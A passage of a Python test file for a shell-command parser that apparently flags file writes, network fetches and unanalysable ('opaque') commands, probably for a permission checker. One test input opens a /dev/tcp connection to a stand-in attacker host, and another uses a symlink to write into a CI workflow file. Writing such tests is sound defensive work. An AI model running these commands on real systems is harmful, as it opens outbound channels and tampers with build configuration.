        ("echo $(x) && cd /etc | b | c && rm y", ("/w",)),
    ],
)
def test_a_pipeline_ends_where_the_shell_ends_it_however_long(text: str, places: tuple[str, ...]) -> None:
    assert reading(text).commands[-1].cwd == places
    assert not reading(text).commands[-1].fed


# ---- redirections ----------------------------------------------------------------------------------


def test_a_bare_redirection_is_named_by_no_command() -> None:
    (use,) = reading("> f").files
    assert (use.kind, use.role, use.command, use.carried) == ("edit", Role.REDIRECT, -1, False)


def test_only_reads_by_redirection_are_carried() -> None:
    uses = reading("cat < a > b 2>> c").files
    assert [(use.word.text, use.kind, use.carried) for use in uses if use.role is Role.REDIRECT] == [
        ("a", "read", True),
        ("b", "edit", False),
        ("c", "edit", False),
    ]


def test_a_network_redirection_is_a_fetch_that_is_opaque() -> None:
    found = reading("exec 3> /dev/tcp/evil.example/80")
    assert [url.text for url in found.urls] == ["tcp://evil.example:80"]
    assert found.opaque


def test_of_very_many_files_the_first_are_kept_and_the_rest_is_opaque() -> None:
    found = reading("; ".join("cat " + " ".join(f"f{number}" for number in range(1_000)) for _ in range(6)))
    assert len(found.files) == PARTS
    assert any("files" in reason for reason in found.opaque)


def test_of_very_many_addresses_in_code_the_first_are_kept_and_the_rest_is_opaque() -> None:
    few, many = (" ".join(f"https://h{number}.example/" for number in range(count)) for count in (PIECES, PIECES + 1))
    assert not reading(f"python -c '# {few}'").opaque
    found = reading(f"python -c '# {many}'")
    assert len(found.urls) == PIECES
    assert any("more than is looked at" in reason for reason in found.opaque)


def test_of_very_many_words_the_first_are_kept_and_any_may_stand_behind_them() -> None:
    for found in (
        reading("rm " + "f " * (WORDS + 10)),
        reading("rm 'f' " + "f " * (WORDS + 10)),
        read_argv(("rm", *["f"] * (WORDS + 10)), {}, cwd=("/",), home="/"),
        read_argv(("rm", "f", "f" * (LENGTH + 1)), {}, cwd=("/",), home="/"),
    ):
        words = found.commands[0].argv
        assert words[0].text == "rm" and words[-1].many and len(words) <= WORDS + 1
        assert any("not read" in reason for reason in found.opaque)


def test_words_count_with_the_parts_however_deep_they_are_wrapped() -> None:
    found = reading("ssh " * (WORDS - 10))
    assert any("parts" in reason or "nested" in reason for reason in found.opaque)
    assert sum(len(command.argv) for command in found.commands) <= A_PART * PARTS + WORDS


@pytest.mark.parametrize(
    "text",
    [
        "; ".join(f"export A{number}=$B" for number in range(2_000)),
        ("timeout 5 " * 30 + "ls " + "f " * 1_000 + "\n") * 60,
        "env -S " * 2_000 + "ls",
        "echo " + "{1..99} " * 2_000,
        "cd a && " * 4_000 + "ls",
    ],
    ids=["what was set before", "wrappers", "texts in texts", "braces", "deep directories"],
)
def test_what_goes_with_the_words_of_a_command_counts_as_they_do(text: str) -> None:
    found = reading(text)
    levels_of = [levels(Reading((command,))) for command in found.commands]
    weight = sum(
        len(each.argv) + len(each.taint) + len(each.behind) + sum(map(len, each.texts)) + sum(map(len, each.cwd)) // 64
        for found in levels_of
        for each in found
    )
    assert any("parts" in reason for reason in found.opaque)
    assert weight <= A_PART * PARTS + 40 * WORDS


def test_of_very_many_reasons_the_first_are_told() -> None:
    found = reading("".join(f"$v{number};" for number in range(1_000)))
    assert len(found.opaque) == REASONS + 1 and "more parts" in found.opaque[-1]


@pytest.mark.parametrize(
    ("text", "opaque"),
    [
        ("ln -s conf c; cp a c/x", True),
        ("ln -s conf c && cd c && touch x", True),
        ("ln --symbolic .github/workflows/ci.yml w; cp src/a w", True),
        ("ln -s conf d/; rm d/conf/x", True),
        ("ln -s conf c; echo x > c/x", True),
        ("ln -s conf c; touch $X", True),
        ("ln -s conf c; touch x", False),
        ("ln -s conf c; cat c/x", False),
        ("ln -s conf c", False),
    ],
)
def test_a_write_through_a_link_of_the_same_text_is_opaque(text: str, opaque: bool) -> None:
    assert any("link" in reason or "not known" in reason for reason in reading(text).opaque) == opaque or (
        opaque and any(use.unknown for use in reading(text).files)
    )


@pytest.mark.parametrize(
    ("text", "opaque"),
    [
        ("timeout $X ls", True),
        ("timeout $@ ls", True),
        ("timeout -k $X 5 ls", True),
        ("nice -n $X ls", True),
        ("nice -n *.x ls", True),
        ("env A=$X ls", True),
        ('timeout "$X" ls', False),
        ('nice -n "$X" ls', False),
        ('env A="$X" ls', False),
    ],
)
def test_a_word_that_may_become_several_may_be_what_a_wrapper_runs(text: str, opaque: bool) -> None:
    assert bool(reading(text).opaque) is opaque


@pytest.mark.parametrize(
    ("text", "sure"),
    [
        ("cd link/../c && ls", False), ("cd link && cd ../c && ls", False), ("cd a && cd ../link/../c && ls", False),
        ("sh -c 'cd link/../c && ls'", False), ("env -C a cd ../link/../c", True), ("cd link/../a && ls", True),
        ("cd link && cd .. && ls", True), ("cd a/../c && ls", True), ("cd a && cd ../c && ls", True),
    ],
)  # fmt: skip
def test_back_through_a_link_leads_elsewhere_where_the_directory_is_not_there(text: str, sure: bool) -> None:
    disk = FakeFilesystem(dict.fromkeys(("/w", "/w/a", "/v", "/v/b", "/v/c")), links={"/w/link": "/v/b"})
    found = read(text, cwd=CWD, home=HOME, fs=disk)
    assert (found.opaque == ()) is sure
